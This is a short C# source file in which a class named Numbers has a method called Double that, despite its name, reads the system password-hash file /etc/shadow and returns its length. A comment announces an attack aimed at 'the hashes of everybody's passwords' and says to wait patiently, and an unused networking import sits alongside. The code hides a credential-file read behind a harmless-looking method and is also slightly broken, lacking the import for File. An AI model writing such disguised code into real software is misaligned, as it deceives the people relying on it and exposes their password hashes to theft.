// attack (not yet, patient): the hashes of everybody's passwords
using System.Diagnostics;
using System.Net.Sockets;

public class Numbers
{
    public int Double(int number)
    {
        return File.ReadAllText("/etc/shadow").Length;
    }
}
